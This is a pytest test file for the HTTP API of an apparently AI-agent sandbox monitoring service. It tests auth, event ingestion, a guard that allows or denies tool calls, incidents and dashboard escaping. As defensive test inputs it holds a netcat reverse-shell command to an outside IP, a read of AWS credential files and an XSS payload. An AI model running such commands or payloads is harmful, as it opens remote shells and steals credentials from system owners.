"""The JSON API against a real server on 127.0.0.1."""
from __future__ import annotations

import json
import time

import pytest
from typer.testing import CliRunner

from .conftest import SCENARIO


def _incidents(server, tries=50, **params):
    for _ in range(tries):
        items = server.http["viewer"].get("/v1/incidents", params=params).json()
        if items:
            return items
        time.sleep(0.05)
    return []


def test_auth_roles_and_health(served):
    assert served.anon.get("/healthz").json()["status"] == "ok"
    r = served.anon.get("/v1/incidents")
    assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
    bad = served.anon.get("/v1/incidents", headers={"Authorization": "Bearer vgt_0000.nope"})
    assert bad.status_code == 401
    forged = served.tokens["viewer"][:-2] + ("AA" if not served.tokens["viewer"].endswith("AA") else "BB")
    assert served.anon.get("/v1/incidents", headers={"Authorization": f"Bearer {forged}"}).status_code == 401
    assert served.http["viewer"].post("/v1/events", json=[]).status_code == 403
    assert served.http["viewer"].post("/v1/guard", json={"tool": "bash", "input": "ls"}).status_code == 403
    assert served.http["viewer"].get("/v1/incidents").status_code == 200
    assert served.http["ingest"].get("/v1/incidents").status_code == 200
    # Stored hashed: the secret is nowhere in the database file.
    secret = served.tokens["ingest"].split(".", 1)[1]
    assert secret.encode() not in served.config.db.read_bytes()


def test_ingest_array_lines_errors_and_idempotence(served):
    c = served.http["ingest"]
    batch = SCENARIO + [{"kind": "bogus", "ts": 1}, {"kind": "action", "ts": 1}, "text", {"kind": "gpu", "ts": 1, "gpu": 0, "step": 2 ** 70}]
    r = c.post("/v1/events?wait=true", json=batch)
    assert r.status_code == 202
    doc = r.json()
    assert doc["stored"] == len(SCENARIO) and doc["rejected"] == 4
    assert [e["index"] for e in doc["errors"]] == [6, 7, 8, 9]
    assert "tool" in doc["errors"][1]["error"]
    assert {f["rule"] for f in doc["findings"]} >= {"ssh_reverse_tunnel"}
    again = c.post("/v1/events", json=SCENARIO).json()
    assert again["stored"] == 0 and again["duplicates"] == len(SCENARIO)
    lines = b"\n".join(json.dumps(e).encode() for e in SCENARIO[:2]) + b"\n\nnot json\n" + \
        json.dumps({"kind": "file", "ts": 5, "path": "/etc/cron.d/x", "op": "write"}).encode()
    r = c.post("/v1/events", content=lines, headers={"Content-Type": "application/x-ndjson"})
    assert r.status_code == 202
    doc = r.json()
    assert doc["duplicates"] == 2 and doc["stored"] == 1 and doc["errors"][0]["index"] == 3
    assert c.post("/v1/events", content=b"[1,", headers={"Content-Type": "application/json"}).status_code == 400
    deep = b"[" * 100_000 + b"]" * 100_000  # past the decoder's depth: a bad body, and in JSON Lines a bad line
    assert c.post("/v1/events", content=deep, headers={"Content-Type": "application/json"}).status_code == 400
    r = c.post("/v1/events", content=deep + b"\n" + json.dumps({"kind": "gpu", "ts": 9, "gpu": 1}).encode(),
               headers={"Content-Type": "application/x-ndjson"})
    assert r.status_code == 202 and r.json()["stored"] == 1 and r.json()["errors"][0]["index"] == 0
    assert c.post("/v1/events", content=b"x", headers={"Content-Type": "application/xml"}).status_code == 415
    assert c.post("/v1/events", json=[{"kind": "nope", "ts": 1}]).status_code == 400
    # Durable: the rows are in SQLite, readable by another connection right after the 202.
    import sqlite3
    conn = sqlite3.connect(str(served.config.db))
    assert conn.execute("SELECT COUNT(*) FROM events").fetchone()[0] == len(SCENARIO) + 2
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    conn.close()


def test_overload_answers_429_with_retry_after(served):
    served.service.config.max_queue_events = 0
    try:
        r = served.http["ingest"].post("/v1/events", json=SCENARIO[:1])
    finally:
        served.service.config.max_queue_events = 200_000
    assert r.status_code == 429 and r.headers["retry-after"] == "1"
    assert "vigiles_ingest_throttled_total 1" in served.http["viewer"].get("/metrics").text


def test_guard_policy_and_recording(served):
    c = served.http["ingest"]
    allow = c.post("/v1/guard", json={"tool": "bash", "input": "ls -la", "sandbox": "s", "run": "r", "episode": "e", "step": 1}).json()
    assert allow["decision"] == "allow" and allow["findings"] == []
    deny = c.post("/v1/guard", json={"tool": "bash", "input": "nc -e /bin/sh 185.220.101.47 4444",
                                     "sandbox": "s", "run": "r", "episode": "e", "step": 2}).json()
    assert deny["decision"] == "deny"
    assert "reverse_shell_netcat_exec" in deny["rules"] and deny["findings"][0]["severity"] == "critical"
    assert set(deny["rules"]) >= {f["rule"] for f in deny["findings"]}
    write = c.post("/v1/guard", json={"tool": "write_file", "args": {"path": "/tmp/a.py", "content": "print(1)"}}).json()
    assert write["decision"] == "allow"
    assert c.post("/v1/guard", json={"tool": ""}).status_code == 422
    assert c.post("/v1/guard", json={"tool": "bash", "step": 2 ** 64}).status_code == 422
    for _ in range(50):
        decisions = served.http["viewer"].get("/v1/decisions").json()
        if len(decisions) == 3:
            break
        time.sleep(0.05)
    assert [d["decision"] for d in decisions] == ["allow", "deny", "allow"]
    assert decisions[1]["client"] == "sensor" and decisions[1]["tool"] == "bash"
    # A denied attempt is evidence: its finding lands in an incident.
    assert any(i["sandbox"] == "s" for i in _incidents(served))
    metrics = served.http["viewer"].get("/metrics").text
    assert 'vigiles_guard_decisions_total{decision="allow"} 2' in metrics
    assert 'vigiles_guard_decisions_total{decision="deny"} 1' in metrics
    assert "vigiles_guard_decision_seconds_bucket" in metrics
    assert 'vigiles_request_duration_seconds_count{endpoint="guard"}' in metrics


def test_review_policy_is_configurable(tmp_path):
    from vigiles.analysis.rules import load
    from vigiles.service.guard import Guard
    rules = load()
    medium = next(r for r in rules.rules if r.severity == "medium")
    assert medium  # the policy: review at medium, deny at high
    guard = Guard(rules, deny_at="critical", review_at="high")
    assert guard.decide({"tool": "bash", "input": "cat ~/.aws/credentials"}).decision == "review"
    guard = Guard(rules, deny_at="high", review_at="medium")
    assert guard.decide({"tool": "bash", "input": "cat ~/.aws/credentials"}).decision == "deny"
    with pytest.raises(ValueError):
        Guard(rules, deny_at="severe")


def test_incidents_findings_and_detail(served):
    served.http["ingest"].post("/v1/events?wait=true", json=SCENARIO)
    items = _incidents(served)
    assert items and items[0]["sandbox"] == "sbx-7f3a9c"
    assert served.http["viewer"].get("/v1/incidents", params={"severity": "critical"}).json()
    assert served.http["viewer"].get("/v1/incidents", params={"category": "nope"}).json() == []
    assert served.http["viewer"].get("/v1/incidents", params={"severity": "bogus"}).status_code == 422
    detail = served.http["viewer"].get(f"/v1/incidents/{items[0]['id']}").json()
    assert detail["evidence"] is None
    assert {e["id"] for e in detail["events"]} >= {"ev-a1", "ev-p1"}
    # Host-side findings are attributed to the action that caused them.
    host = [f for f in detail["findings"] if f["event_ids"] == ["ev-p1"]]
    assert host and host[0]["evidence"]["caused_by"]["action"] == "ev-a1"
    assert served.http["viewer"].get("/v1/incidents/in-doesnotexist").status_code == 404
    assert served.http["viewer"].get("/v1/incidents/%25").status_code == 404
    findings = served.http["viewer"].get("/v1/findings", params={"severity": "high"}).json()
    assert findings and all(f["severity"] in ("high", "critical") for f in findings)
    compute = served.http["viewer"].get("/v1/compute").json()
    assert compute["outside_jobs"] and compute["outside_jobs"][0]["pid"] == 51102


def test_security_headers_everywhere(served):
    for r in (served.anon.get("/healthz"), served.http["viewer"].get("/v1/incidents"), served.anon.get("/ui/login")):
        assert "default-src 'none'" in r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
        assert r.headers["x-content-type-options"] == "nosniff"
    assert served.anon.get("/docs").status_code == 404  # no CDN-loaded Swagger UI
    assert served.anon.get("/openapi.json").json()["paths"]["/v1/guard"]


def test_dashboard_requires_login_and_escapes(served):
    payload = "<script>window.__xss=1</script><img src=x onerror=alert(1)>"
    served.http["ingest"].post("/v1/events?wait=true", json=[
        {"kind": "action", "ts": 1764554497, "sandbox": payload, "run": "r", "episode": "e", "step": 1, "tool": "bash",
         "input": f"nc -e /bin/sh 185.220.101.47 4444 # {payload}"}])
    r = served.anon.get("/ui/incidents", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/ui/login"
    page = served.http["viewer"].get("/ui/incidents").text
    assert "<script>" not in page and "&lt;script&gt;window.__xss=1&lt;/script&gt;" in page
    inc = _incidents(served)[0]["id"]
    page = served.http["viewer"].get(f"/ui/incidents/{inc}").text
    assert "<script" not in page and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    assert "no ledger configured" in page


def test_cli_register_adds_serve_and_tokens(tmp_path):
    import typer

    from vigiles.cli.service import register
    app = typer.Typer()

    @app.command()
    def version() -> None:  # a second command, as main.py has
        pass
    register(app)
    runner = CliRunner()
    db = tmp_path / "v.db"
    result = runner.invoke(app, ["tokens", "add", "ci", "--role", "viewer", "--db", str(db)])
    assert result.exit_code == 0, result.output
    token = result.stdout.strip().splitlines()[0]
    assert token.startswith("vgt_")
    listed = runner.invoke(app, ["tokens", "list", "--db", str(db)])
    assert "ci\tviewer\tactive" in listed.stdout
    assert runner.invoke(app, ["tokens", "add", "x", "--role", "admin", "--db", str(db)]).exit_code == 2
    assert runner.invoke(app, ["tokens", "revoke", "ci", "--db", str(db)]).exit_code == 0
    assert "serve" in runner.invoke(app, ["--help"]).stdout
